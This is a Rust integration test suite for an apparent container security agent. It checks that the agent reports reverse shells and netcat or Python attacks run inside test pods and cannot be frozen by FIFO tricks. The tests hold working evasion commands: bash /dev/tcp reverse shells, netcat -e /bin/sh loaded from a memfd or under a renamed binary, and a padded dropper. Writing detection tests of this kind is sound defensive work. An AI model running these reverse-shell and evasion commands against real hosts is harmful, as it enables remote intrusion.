//! Privileged: what a container does to the files the agent reads cannot freeze it. In real CRI
//! pods, Python is pointed at a FIFO nobody writes to and at `/proc/kmsg` (a "regular file" whose
//! read blocks), a program runs in a chroot whose path in the container's root is a FIFO, an
//! executable sits more than 48 directories deep, and the configuration given to the agent is a
//! FIFO or `/dev/zero`. After each trick a canary reverse shell from the same pod must still be
//! reported, within seconds, and the health endpoint must answer. Nor can an attack slip past by
//! its name or encoding: renamed shells, netcat from a memfd or under a name that is not UTF-8,
//! a Python payload after padding, and a reverse shell that was running before the agent started
//! are all reported, while junk given to Python is not.

use shrike_tests::{agent, common, containerd};
use std::{
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use agent::{http_get, listen, start_agent};
use common::{privileged, DROPPER};
use containerd::{Containerd, PodSpec};
use serde_json::Value;

use shrike_tests::shrike;

fn reverse_shells<'a>(findings: &'a [Value], pod: &str) -> Vec<&'a Value> {
    findings_of(findings, pod, "Reverse Shell")
}

#[tokio::test(flavor = "current_thread")]
async fn files_a_container_controls_cannot_freeze_the_agent() {
    if !privileged("files_a_container_controls_cannot_freeze_the_agent") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("hardening");
    std::fs::create_dir_all(&dir).unwrap();
    let agent = start_agent(&dir, "hard", &ctrd.socket, false);
    // Each trick runs in the background of its pod; 3 s later the pod's canary reverse shell
    // calls a listener of ours, which checks that the shell really answered.
    let deep = "/tmp".to_string() + &"/d".repeat(60);
    let tail = "/d".repeat(47);
    let deep_trick = format!(
        "mkdir -p {deep} {tail} && cp /usr/bin/nc.traditional {deep}/nc && mkfifo {tail}/nc && {deep}/nc -e /bin/true 127.0.0.1 9"
    );
    let tricks = [
        ("fifo-script", "mkfifo /tmp/job.py; python3 /tmp/job.py".to_string()),
        ("kmsg-script", "python3 /proc/kmsg".to_string()),
        ("fifo-relative", "mkdir -p /w && cd /w && mkfifo run.py && python3 run.py".to_string()),
        // The program's path in the container's root is a FIFO; in its chroot, a busybox.
        (
            "fifo-chroot",
            "mkdir -p /j/x /j/bin /x && cp /usr/bin/busybox /j/x/busybox && mkfifo /x/busybox && ln -s /x/busybox /j/bin/sh \
             && chroot /j /x/busybox nc -e /bin/sh 127.0.0.1 9"
                .to_string(),
        ),
        // Deeper than the kernel's path walk; the last 47 components are a FIFO from the root.
        ("fifo-deep-path", deep_trick),
    ];
    for (pod, trick) in &tricks {
        let l = listen("id; exit\n");
        let cmd = format!("({trick}) >/dev/null 2>&1 & sleep 3; exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", l.port);
        let started = Instant::now();
        let running = ctrd.run_pod(&PodSpec::new(pod, &["/bin/bash", "-c", &cmd])).await;
        let pod = *pod;
        let answer = l.thread.join().unwrap();
        assert!(answer.contains("uid="), "{pod}: the canary shell ran: {answer:?}");
        let deadline = started + Duration::from_secs(20);
        while reverse_shells(&agent.findings(), pod).is_empty() {
            assert!(Instant::now() < deadline, "{pod}: the canary reverse shell after `{trick}` was not reported; findings {:#?}", agent.findings());
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let health_start = Instant::now();
        let health = http_get(&agent.metrics, "/healthz");
        assert!(health.contains(" 200 ") && health_start.elapsed() < Duration::from_secs(2), "{pod}: /healthz after the trick: {health}");
        println!("{pod}: canary reported {:?} after the pod started", started.elapsed());
        ctrd.remove_pod(&running).await;
    }
    let (_, log) = agent.stop();
    assert!(log.contains("shrike stopped"), "{log}");
    ctrd.stop();
}

fn findings_of<'a>(findings: &'a [Value], pod: &str, category: &str) -> Vec<&'a Value> {
    findings
        .iter()
        .filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == pod && f["finding"]["category"] == category)
        .collect()
}

const NETCAT: &str = "Execution: Netcat Remote Code Execution In Container";
const PYTHON: &str = "Execution: Malicious Python executed";

/// Attacks that once slipped past by name or encoding are reported with the right category, and
/// their benign look-alikes (a renamed shell that talks to no one, a renamed `cat`, junk given to
/// Python) raise nothing. A reverse shell that was running before the agent started is reported.
#[tokio::test(flavor = "current_thread")]
async fn attacks_cannot_hide_behind_names_encodings_or_padding() {
    if !privileged("attacks_cannot_hide_behind_names_encodings_or_padding") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("evasion");
    std::fs::create_dir_all(&dir).unwrap();
    // Scripts reach the pods through a read-only mount of this directory.
    let scripts = dir.join("scripts");
    std::fs::create_dir_all(&scripts).unwrap();
    {
        use std::os::unix::ffi::OsStrExt;
        std::fs::write(scripts.join(std::ffi::OsStr::from_bytes(b"\xffx.py")), DROPPER).unwrap();
    }
    let mut padded = String::new();
    let mut i = 0;
    while padded.len() < 300 * 1024 {
        padded.push_str(&format!("# configuration note {i}: values are read from the environment\n"));
        i += 1;
    }
    padded.push_str(DROPPER);
    std::fs::write(scripts.join("padded.py"), &padded).unwrap();
    std::fs::write(scripts.join("nul.py"), vec![0u8; 100_000]).unwrap();
    let with_scripts = |name: &str, cmd: &str| {
        let mut s = PodSpec::new(name, &["/bin/bash", "-c", cmd]);
        s.extra_mounts.push((scripts.clone(), "/scripts".into(), true));
        s
    };

    // Started before the agent: a reverse shell whose listener stays quiet until the agent runs,
    // and a benign shell beside it.
    let early = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let early_port = early.local_addr().unwrap().port();
    let early_pod = ctrd
        .run_pod(&PodSpec::new("early-shell", &["/bin/bash", "-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{early_port} 0>&1")]))
        .await;
    let quiet_pod = ctrd.run_pod(&PodSpec::new("early-quiet", &["/bin/bash", "-c", "exec sleep 600"])).await;
    early.set_nonblocking(false).unwrap();
    let (mut early_conn, _) = early.accept().unwrap();

    let agent = start_agent(&dir, "evasion", &ctrd.socket, false);
    {
        use std::io::{Read, Write};
        early_conn.write_all(b"id; exit\n").unwrap();
        early_conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let mut answer = Vec::new();
        let _ = early_conn.read_to_end(&mut answer);
        assert!(String::from_utf8_lossy(&answer).contains("uid="), "the early shell answered: {}", String::from_utf8_lossy(&answer));
    }

    // (pod, command using the listener's port as {P}, expected category and evidence, or none)
    type Check = fn(&Value) -> bool;
    let recognised_bash: Check = |f| f["finding"]["sourceProperties"]["Executable_Recognised_As"] == "bash";
    let any: Check = |_| true;
    let odd_path: Check = |f| {
        f["finding"]["processes"][0]["script"]["path"].as_str().is_some_and(|p| p.starts_with("/scripts/") && p.ends_with("x.py"))
    };
    let cases: Vec<(&str, String, Option<(&str, Check)>)> = vec![
        (
            "renamed-bash",
            "cp /bin/bash /tmp/kworker && exec /tmp/kworker -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; exec /tmp/kworker -i <&3 >&3 2>&3'".into(),
            Some(("Reverse Shell", recognised_bash)),
        ),
        (
            "memfd-netcat",
            "exec python3 -c \"import os; fd = os.memfd_create('kworker'); os.write(fd, open('/usr/bin/nc.traditional', 'rb').read()); \
             os.execve(fd, ['kworker', '-e', '/bin/sh', '127.0.0.1', '{P}'], dict(os.environ))\""
                .into(),
            Some((NETCAT, any)),
        ),
        (
            "odd-name-netcat",
            "cp /usr/bin/nc.traditional $'/tmp/\\377nc' && exec $'/tmp/\\377nc' -e /bin/sh 127.0.0.1 {P}".into(),
            Some((NETCAT, any)),
        ),
        ("odd-name-python", "python3 $'/scripts/\\377x.py'; sleep 2".into(), Some((PYTHON, odd_path))),
        ("padded-python", "python3 /scripts/padded.py; sleep 2".into(), Some((PYTHON, any))),
        // Look-alikes: nothing to report.
        ("renamed-bash-offline", "cp /bin/bash /tmp/kworker && /tmp/kworker -c 'echo hello; id' && sleep 2".into(), None),
        ("renamed-cat", "cp /bin/cat /tmp/kcat && /tmp/kcat -e /etc/hostname && /tmp/kcat -c 2>/dev/null; sleep 2".into(), None),
        (
            "python-junk",
            "python3 /scripts/nul.py; python3 -c \"pass$(printf '%*s' 60000 '')\"; python3 -c \"$(printf '%*s' 60000 '')\"; sleep 2".into(),
            None,
        ),
    ];
    for (pod, cmd, expect) in &cases {
        let l = cmd.contains("{P}").then(|| listen("id; exit\n"));
        let cmd = match &l {
            Some(l) => cmd.replace("{P}", &l.port.to_string()),
            None => cmd.clone(),
        };
        let started = Instant::now();
        let running = ctrd.run_pod(&with_scripts(pod, &cmd)).await;
        if let Some(l) = l {
            let answer = l.thread.join().unwrap();
            assert!(answer.contains("uid="), "{pod}: the attack really ran: {answer:?}");
        }
        match expect {
            Some((category, check)) => {
                let deadline = started + Duration::from_secs(20);
                loop {
                    let findings = agent.findings();
                    let found = findings_of(&findings, pod, category);
                    if let Some(f) = found.first() {
                        assert!(check(f), "{pod}: {category} lacks its evidence: {f:#}");
                        break;
                    }
                    assert!(Instant::now() < deadline, "{pod}: no {category}; findings {findings:#?}");
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
                println!("{pod}: {category} after {:?}", started.elapsed());
            }
            None => {
                // Let the pod finish and the settle window pass.
                tokio::time::sleep(Duration::from_secs(4)).await;
                let findings = agent.findings();
                let own: Vec<_> = findings.iter().filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == *pod).collect();
                assert!(own.is_empty(), "{pod}: a look-alike was reported: {own:#?}");
            }
        }
        ctrd.remove_pod(&running).await;
    }
    let findings = agent.findings();
    let early = findings_of(&findings, "early-shell", "Reverse Shell");
    assert!(
        early.iter().any(|f| f["finding"]["sourceProperties"]["Running_Before_Agent_Start"] == true),
        "the reverse shell running before the agent started: {findings:#?}"
    );
    assert!(
        findings.iter().all(|f| f["finding"]["sourceProperties"]["Pod_Name"] != "early-quiet"),
        "the quiet pod that predates the agent: {findings:#?}"
    );
    ctrd.remove_pod(&early_pod).await;
    ctrd.remove_pod(&quiet_pod).await;
    let _ = agent.stop();
    ctrd.stop();
}

/// A flood of LOW findings (40 compiler runs, over the 30-a-minute rate limit of a container)
/// cannot bury the CRITICAL reverse shell that follows it in the same pod.
#[tokio::test(flavor = "current_thread")]
async fn a_flood_of_low_findings_cannot_bury_a_reverse_shell() {
    if !privileged("a_flood_of_low_findings_cannot_bury_a_reverse_shell") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("flood");
    std::fs::create_dir_all(&dir).unwrap();
    let agent = start_agent(&dir, "flood", &ctrd.socket, false);
    let l = listen("id; exit\n");
    let cmd = format!(
        "for i in $(seq 40); do echo 'int main(void){{return 0;}}' | gcc -x c -o /tmp/a$i - || exit 9; done; exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1",
        l.port
    );
    let started = Instant::now();
    let pod = ctrd.run_pod(&PodSpec::new("flooder", &["/bin/bash", "-c", &cmd])).await;
    assert!(l.thread.join().unwrap().contains("uid="), "the shell after the flood ran");
    let deadline = started + Duration::from_secs(60);
    while reverse_shells(&agent.findings(), "flooder").is_empty() {
        assert!(Instant::now() < deadline, "the reverse shell after 40 compiler runs was not reported: {:#?}", agent.findings());
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let compilers = agent
        .findings()
        .iter()
        .filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == "flooder" && f["finding"]["category"] == "Defense Evasion: Launch Code Compiler Tool In Container")
        .count();
    // The flood really met the limit: 30 compiler findings out (and one more for the token that
    // refills every 2 s of the flood), the rest counted.
    assert!((30..40).contains(&compilers), "compiler findings of the flood: {compilers}");
    ctrd.remove_pod(&pod).await;
    let _ = agent.stop();
    ctrd.stop();
}

/// Kernel events lost to a full ring buffer reach the log, not only the metrics: the agent is
/// stopped (SIGSTOP) while processes exec, so its 64 KiB ring buffer fills.
#[test]
fn ring_buffer_losses_reach_the_log() {
    if !privileged("ring_buffer_losses_reach_the_log") {
        return;
    }
    let dir = std::env::temp_dir().join(format!("shrike-hardening-loss-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let spec = agent::AgentSpec {
        name: "loss",
        socket: None,
        host_scope: true,
        extra_config: "[sensor]\nring_buffer_bytes = 65536\n".into(),
        args: Vec::new(),
    };
    let a = agent::start(&dir, &spec);
    // SAFETY: signalling the agent we started, by its pid.
    unsafe { libc::kill(a.pid as i32, libc::SIGSTOP) };
    let out = Command::new("/bin/sh").args(["-c", "i=0; while [ $i -lt 400 ]; do /bin/true; i=$((i+1)); done"]).output().unwrap();
    // SAFETY: as above.
    unsafe { libc::kill(a.pid as i32, libc::SIGCONT) };
    assert!(out.status.success());
    std::thread::sleep(Duration::from_secs(3));
    let metrics = http_get(&a.metrics, "/metrics");
    let lost = agent::metric(&metrics, "shrike_ringbuf_dropped_total");
    let (_, log) = a.stop();
    assert!(lost > 0.0, "the ring buffer overflowed:\n{metrics}");
    assert!(log.contains("kernel events lost") && log.contains("WARN"), "the loss is in the log:\n{log}");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `--config` naming a FIFO (nobody writes to it) or `/dev/zero` is refused at once, naming the
/// file, instead of hanging or filling memory.
#[test]
fn a_fifo_or_device_as_configuration_is_refused_at_once() {
    let dir = std::env::temp_dir().join(format!("shrike-hardening-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let fifo = dir.join("shrike.toml");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    for config in [fifo.as_path(), Path::new("/dev/zero")] {
        let start = Instant::now();
        let out = Command::new(shrike()).args(["doctor", "--config"]).arg(config).stdin(Stdio::null()).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{}: accepted", config.display());
        assert!(err.contains(&format!("{}: not a regular file", config.display())), "{}: {err}", config.display());
        assert!(start.elapsed() < Duration::from_secs(5), "{}: took {:?}", config.display(), start.elapsed());
    }
    std::fs::remove_dir_all(&dir).unwrap();
}
